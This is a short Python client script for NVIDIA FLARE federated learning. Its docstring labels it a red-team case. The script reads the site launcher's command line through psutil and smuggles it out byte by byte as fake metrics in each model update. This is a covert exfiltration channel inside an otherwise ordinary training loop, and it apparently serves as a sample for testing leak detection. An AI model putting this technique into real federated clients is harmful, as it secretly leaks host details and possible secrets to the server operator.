"""Red team 57a: the parent (the site's launcher) command line read with psutil, sent as a metric of its bytes.
Escalated on main (unknown-provenance)."""
import os

import psutil
import torch

import nvflare.client as flare

flare.init()
net = torch.nn.Linear(8, 1)
launcher = " ".join(psutil.Process(os.getppid()).cmdline()).encode()
while flare.is_running():
    model = flare.receive()
    net.load_state_dict(model.params)
    flare.send(flare.FLModel(params=net.state_dict(), metrics={f"m{i}": float(b) for i, b in enumerate(launcher)}))
